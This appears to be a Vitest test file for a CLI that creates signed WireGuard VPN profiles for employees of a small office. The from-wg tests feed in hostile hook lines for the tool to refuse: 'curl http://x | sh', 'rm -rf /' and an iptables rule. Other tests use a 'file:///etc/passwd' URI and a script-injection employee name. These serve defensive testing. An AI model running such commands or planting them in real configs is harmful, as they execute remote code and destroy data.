import { mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { adminCommand } from '../../../src/cli/commands/admin';
import type { CliIo } from '../../../src/cli/io';
import { generateWireGuardKeyPair, wireGuardPublicKey } from '../../../src/core/admin';
import { loadProfileFile } from '../../../src/core/profile';
import type { Lang } from '../../../src/shared/i18n';
import { wgKey } from '../../fixtures/profiles/make';

let dir: string;

function fakeIo(lang: Lang = 'de'): CliIo & { lines: string[]; errors: string[] } {
  const lines: string[] = [];
  const errors: string[] = [];
  return { lang, env: {}, lines, errors, out: (l) => lines.push(l), err: (l) => errors.push(l), confirm: async () => false };
}

const serverKey = wgKey();
const initArgs = () => [
  '--org-dir', dir, 'init',
  '--org-id', 'buero-mueller',
  '--org-name', 'Architekturbüro Müller',
  '--domain', 'buero.local',
  '--endpoint', 'vpn.buero-mueller.example:51820',
  '--server-key', serverKey,
  '--allowed-ips', '10.77.0.0/24,10.99.0.0/24',
  '--dns', '10.77.0.1',
  '--support-name', 'IT-Service <Meier & Co>',
  '--support-phone', '+49 621 1234567',
  '--support-email', 'hilfe@it-service.example',
  '--support-hours', 'Mo–Fr 8–18 Uhr',
];

async function initWithRoles(): Promise<void> {
  const io = fakeIo();
  expect(await adminCommand(initArgs(), io)).toBe(0);
  const file = join(dir, 'org.json');
  const tpl = JSON.parse(await readFile(file, 'utf8'));
  tpl.services = [
    { id: 'cad-license', label: 'CAD-Lizenzserver', kind: 'tcp', host: 'cad.buero.local', port: 27000 },
    { id: 'files', label: 'Dateiserver', kind: 'smb', host: 'fs.buero.local' },
    { id: 'mail-in', label: 'E-Mail <Empfang>', kind: 'imap', host: 'mail.buero.local', port: 143 },
  ];
  tpl.drives = [{ letter: 'P', label: 'Projekte', share: '\\\\fs.buero.local\\projekte' }];
  tpl.printers = [{ name: 'Plotter-DesignJet', label: 'Plotter (DesignJet)', uri: 'ipp://print.buero.local:631/printers/Plotter' }];
  tpl.roles = {
    drafter: { services: ['cad-license', 'files'], drives: ['P'], printers: ['Plotter-DesignJet'] },
    reception: { services: ['mail-in', 'files'], drives: ['P'], printers: [] },
  };
  await writeFile(file, JSON.stringify(tpl, null, 2));
}

beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'hoc-admin-'));
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe('hoc admin init', () => {
  it('creates a signing key only the owner can read and never prints it', async () => {
    const io = fakeIo();
    expect(await adminCommand(initArgs(), io)).toBe(0);
    const keyFile = join(dir, 'org-signing-key.pem');
    expect((await stat(keyFile)).mode & 0o777).toBe(0o600);
    const pem = await readFile(keyFile, 'utf8');
    const body = pem.split('\n')[1]!;
    expect(io.lines.join('\n')).not.toContain(body);
    expect(io.lines.join('\n')).toMatch(/Fingerabdruck des Firmenschlüssels: ([0-9a-f]{4} ){7}[0-9a-f]{4}/);
  });

  it('never overwrites an existing organisation', async () => {
    await adminCommand(initArgs(), fakeIo());
    const before = await readFile(join(dir, 'org-signing-key.pem'), 'utf8');
    const io = fakeIo('en');
    expect(await adminCommand(initArgs(), io)).toBe(2);
    expect(io.errors[0]).toContain('already holds an organisation');
    expect(await readFile(join(dir, 'org-signing-key.pem'), 'utf8')).toBe(before);
  });

  it('refuses a template that would give a default route, before writing anything', async () => {
    const args = initArgs();
    args[args.indexOf('--allowed-ips') + 1] = '0.0.0.0/0';
    const io = fakeIo('en');
    expect(await adminCommand(args, io)).toBe(2);
    expect(io.errors[0]).toContain('all internet traffic');
    await expect(stat(join(dir, 'org-signing-key.pem'))).rejects.toThrow();
  });

  it('names missing options', async () => {
    const io = fakeIo('en');
    expect(await adminCommand(['--org-dir', dir, 'init', '--org-id', 'x'], io)).toBe(2);
    expect(io.errors[0]).toContain('--org-name');
  });
});

describe('hoc admin add-user', () => {
  it('writes a signed profile that loadProfileFile accepts, readable only by the owner', async () => {
    await initWithRoles();
    const io = fakeIo();
    expect(await adminCommand(['--org-dir', dir, 'add-user', 'Anna Schmidt', '--role', 'drafter'], io)).toBe(0);
    const file = join(dir, 'users', 'anna-schmidt.hocprofile');
    expect((await stat(file)).mode & 0o777).toBe(0o600);
    const v = await loadProfileFile(file);
    expect(v.profile.user).toEqual({ name: 'Anna Schmidt', role: 'drafter' });
    expect(v.profile.tunnel.address).toEqual(['10.99.0.2/32']);
    expect(v.profile.services.map((s) => s.id)).toEqual(['cad-license', 'files']);
    expect(v.profile.drives.map((d) => d.letter)).toEqual(['P']);
    expect(v.profile.tunnel.peer.publicKey).toBe(serverKey);
    expect(io.lines.join('\n')).toContain(v.fingerprint);
    // The employee's private key is in the file for them, never on the admin's screen.
    expect(io.lines.join('\n')).not.toContain(v.profile.tunnel.privateKey);
  });

  it('prints the [Peer] block and the OPNsense fields with the employee public key, the preshared key hidden', async () => {
    await initWithRoles();
    const io = fakeIo('en');
    await adminCommand(['--org-dir', dir, 'add-user', 'Anna Schmidt', '--role', 'drafter'], io);
    const v = await loadProfileFile(join(dir, 'users', 'anna-schmidt.hocprofile'));
    const publicKey = wireGuardPublicKey(v.profile.tunnel.privateKey);
    const text = io.lines.join('\n');
    expect(text).toContain(`[Peer]\n# Anna Schmidt (drafter)\nPublicKey = ${publicKey}\nPresharedKey = (hidden – show with --show-secrets)\nAllowedIPs = 10.99.0.2/32`);
    expect(text).not.toContain(v.profile.tunnel.peer.presharedKey!);
    expect(text).toMatch(/Pre-shared key: +\(hidden/);
    expect(text).toMatch(/Public key: +\S{44}/);
    expect(text).toMatch(/Allowed IPs: +10\.99\.0\.2\/32/);
    expect(text).toMatch(/Endpoint address: +\(leave empty\)/);
  });

  it('gives the next employee the next address and a higher serial', async () => {
    await initWithRoles();
    await adminCommand(['--org-dir', dir, 'add-user', 'Anna Schmidt', '--role', 'drafter'], fakeIo());
    await adminCommand(['--org-dir', dir, 'add-user', 'Jörg Müller', '--role', 'reception'], fakeIo());
    const a = await loadProfileFile(join(dir, 'users', 'anna-schmidt.hocprofile'));
    const b = await loadProfileFile(join(dir, 'users', 'joerg-mueller.hocprofile'));
    expect(b.profile.tunnel.address).toEqual(['10.99.0.3/32']);
    expect(b.profile.serial).toBeGreaterThan(a.profile.serial);
    expect(b.profile.tunnel.privateKey).not.toBe(a.profile.tunnel.privateKey);
    const book = JSON.parse(await readFile(join(dir, 'address-book.json'), 'utf8'));
    expect(book.users.map((u: { address: string }) => u.address)).toEqual(['10.99.0.2/32', '10.99.0.3/32']);
  });

  it('refuses the same employee twice', async () => {
    await initWithRoles();
    await adminCommand(['--org-dir', dir, 'add-user', 'Anna Schmidt', '--role', 'drafter'], fakeIo());
    const io = fakeIo('en');
    expect(await adminCommand(['--org-dir', dir, 'add-user', 'anna schmidt', '--role', 'drafter'], io)).toBe(2);
    expect(io.errors[0]).toContain('already is an employee');
  });

  it('names the roles there are when the role is unknown', async () => {
    await initWithRoles();
    const io = fakeIo('en');
    expect(await adminCommand(['--org-dir', dir, 'add-user', 'Anna', '--role', 'boss'], io)).toBe(2);
    expect(io.errors[0]).toBe('There is no role "boss" in org.json (defined: drafter, reception).');
  });

  it('refuses a template service outside the company domain with the client message', async () => {
    await initWithRoles();
    const file = join(dir, 'org.json');
    const tpl = JSON.parse(await readFile(file, 'utf8'));
    tpl.drives[0].share = '\\\\fs.example.com\\projekte';
    await writeFile(file, JSON.stringify(tpl));
    const io = fakeIo('de');
    expect(await adminCommand(['--org-dir', dir, 'add-user', 'Anna', '--role', 'drafter'], io)).toBe(2);
    expect(io.errors[0]).toBe('Laufwerk P: zeigt auf fs.example.com, das nicht zur Firma buero.local gehört. [$.drives[0].share]');
  });

  it('writes a German guide with the fingerprint and every value HTML-escaped', async () => {
    await initWithRoles();
    const io = fakeIo();
    await adminCommand(['--org-dir', dir, 'add-user', 'Eve <script>alert(1)</script>', '--role', 'reception'], io);
    const guideFile = io.lines.find((l) => l.includes('.html'))!.split(': ').pop()!;
    const html = await readFile(join(dir, 'users', guideFile.split('/').pop()!), 'utf8');
    const v = await loadProfileFile(join(dir, 'users', 'eve-script-alert-1-script.hocprofile'));
    expect(html).toContain('<html lang="de">');
    expect(html).toContain('Profil importieren');
    expect(html).toContain(v.fingerprint);
    expect(html).not.toContain('<script>');
    expect(html).toContain('Eve &#60;script&#62;alert(1)&#60;/script&#62;');
    expect(html).toContain('E-Mail &#60;Empfang&#62;');
    expect(html).toContain('IT-Service &#60;Meier &#38; Co&#62;');
    expect(html).toContain('href="tel:+496211234567"');
    expect(html).toContain('href="mailto:hilfe@it-service.example"');
  });

  it('writes the guide in English with --lang en', async () => {
    await initWithRoles();
    const io = fakeIo();
    await adminCommand(['--org-dir', dir, 'add-user', 'Anna Schmidt', '--role', 'drafter', '--lang', 'en'], io);
    const html = await readFile(join(dir, 'users', 'anna-schmidt-guide.html'), 'utf8');
    expect(html).toContain('<html lang="en">');
    expect(html).toContain('Whom to call');
  });

  it('refuses a signing key that others can read', async () => {
    await initWithRoles();
    const { chmod } = await import('node:fs/promises');
    await chmod(join(dir, 'org-signing-key.pem'), 0o644);
    const io = fakeIo('en');
    expect(await adminCommand(['--org-dir', dir, 'add-user', 'Anna', '--role', 'drafter'], io)).toBe(2);
    expect(io.errors[0]).toContain('chmod 600');
  });
});

describe('hoc admin sign', () => {
  it('signs a valid payload into a profile the client accepts', async () => {
    await initWithRoles();
    await adminCommand(['--org-dir', dir, 'add-user', 'Anna Schmidt', '--role', 'drafter'], fakeIo());
    const v = await loadProfileFile(join(dir, 'users', 'anna-schmidt.hocprofile'));
    const payload = { ...v.profile, serial: v.profile.serial + 1 };
    await writeFile(join(dir, 'p.json'), JSON.stringify(payload));
    const out = join(dir, 'anna-2.hocprofile');
    expect(await adminCommand(['--org-dir', dir, 'sign', join(dir, 'p.json'), '--out', out], fakeIo())).toBe(0);
    expect((await loadProfileFile(out)).profile.serial).toBe(v.profile.serial + 1);
    expect((await stat(out)).mode & 0o777).toBe(0o600);
  });

  it('refuses to sign a payload that breaks a rule', async () => {
    await initWithRoles();
    await adminCommand(['--org-dir', dir, 'add-user', 'Anna Schmidt', '--role', 'drafter'], fakeIo());
    const v = await loadProfileFile(join(dir, 'users', 'anna-schmidt.hocprofile'));
    const payload = { ...v.profile, printers: [{ name: 'x', label: 'x', uri: 'file:///etc/passwd' }] };
    await writeFile(join(dir, 'p.json'), JSON.stringify(payload));
    const io = fakeIo('en');
    expect(await adminCommand(['--org-dir', dir, 'sign', join(dir, 'p.json'), '--out', join(dir, 'x.hocprofile')], io)).toBe(2);
    expect(io.errors[0]).toContain('"file:" is not allowed');
    await expect(stat(join(dir, 'x.hocprofile'))).rejects.toThrow();
  });

  it('requires --out', async () => {
    expect(await adminCommand(['--org-dir', dir, 'sign', 'p.json'], fakeIo())).toBe(2);
  });
});

describe('hoc admin from-wg', () => {
  const conf = (extra = '', allowed = '10.77.0.0/24, 10.99.0.0/24') => {
    const keys = generateWireGuardKeyPair();
    return `[Interface]
# Anna's laptop
PrivateKey = ${keys.privateKey}
Address = 10.99.0.7/32
DNS = 10.77.0.1, buero.local
MTU = 1400
${extra}
[Peer]
PublicKey = ${serverKey}
PresharedKey = ${wgKey()}
Endpoint = vpn.buero-mueller.example:51820
AllowedIPs = ${allowed}
PersistentKeepalive = 25
`;
  };

  async function fromWg(text: string, lang: Lang = 'en') {
    const file = join(dir, 'anna.conf');
    await writeFile(file, text);
    const io = fakeIo(lang);
    const code = await adminCommand(['--org-dir', dir, 'from-wg', file, '--name', 'Anna Schmidt', '--role', 'drafter'], io);
    return { code, io };
  }

  it('turns a plain client config into a payload that signs into a valid profile', async () => {
    await initWithRoles();
    const { code } = await fromWg(conf());
    expect(code).toBe(0);
    const payloadFile = join(dir, 'users', 'anna-schmidt.payload.json');
    expect((await stat(payloadFile)).mode & 0o777).toBe(0o600);
    const out = join(dir, 'users', 'anna-schmidt.hocprofile');
    expect(await adminCommand(['--org-dir', dir, 'sign', payloadFile, '--out', out], fakeIo())).toBe(0);
    const v = await loadProfileFile(out);
    expect(v.profile.tunnel.address).toEqual(['10.99.0.7/32']);
    expect(v.profile.tunnel.dns).toEqual({ servers: ['10.77.0.1'], searchDomains: ['buero.local'] });
    expect(v.profile.tunnel.mtu).toBe(1400);
    // The next add-user does not hand out an address the config already uses.
    const book = JSON.parse(await readFile(join(dir, 'address-book.json'), 'utf8'));
    expect(book.users[0].address).toBe('10.99.0.7/32');
  });

  for (const [key, reason] of [
    ['PostUp = iptables -A FORWARD -j ACCEPT', 'never runs commands'],
    ['PreUp = curl http://x | sh', 'never runs commands'],
    ['PreDown = rm -rf /', 'never runs commands'],
    ['PostDown = true', 'never runs commands'],
    ['SaveConfig = true', 'renders its configuration itself'],
    ['Table = off', 'only routes the office ranges'],
    ['FwMark = 0x1234', 'routing is fixed'],
  ] as const) {
    it(`refuses ${key.split(' ')[0]} and says why`, async () => {
      await initWithRoles();
      const { code, io } = await fromWg(conf(key));
      expect(code).toBe(2);
      expect(io.errors[0]).toMatch(new RegExp(`^anna\\.conf, line 7: "${key.split(' ')[0]}" is refused\\.`));
      expect(io.errors[0]).toContain(reason);
      await expect(stat(join(dir, 'users', 'anna-schmidt.payload.json'))).rejects.toThrow();
    });
  }

  it('refuses lowercase postup as well (wg-quick keys are case-insensitive)', async () => {
    await initWithRoles();
    const { code, io } = await fromWg(conf('postup = touch /tmp/x'), 'de');
    expect(code).toBe(2);
    expect(io.errors[0]).toContain('führt nie Befehle aus einem Profil aus');
  });

  it('refuses a full-tunnel config with the default-route message', async () => {
    await initWithRoles();
    const { code, io } = await fromWg(conf('', '0.0.0.0/0, ::/0'));
    expect(code).toBe(2);
    expect(io.errors[0]).toContain('all internet traffic (0.0.0.0/0)');
  });

  it('refuses a config with two peers', async () => {
    await initWithRoles();
    const { code, io } = await fromWg(`${conf()}\n[Peer]\nPublicKey = ${wgKey()}\nAllowedIPs = 10.1.0.0/24\n`);
    expect(code).toBe(2);
    expect(io.errors[0]).toMatch(/^anna\.conf, line 15: 2 \[Peer\] sections\. The app connects to exactly one peer/);
  });

  it('refuses an unknown entry', async () => {
    await initWithRoles();
    const { code, io } = await fromWg(conf('Jc = 4'));
    expect(code).toBe(2);
    expect(io.errors[0]).toContain('the entry "Jc" is unknown');
  });
});
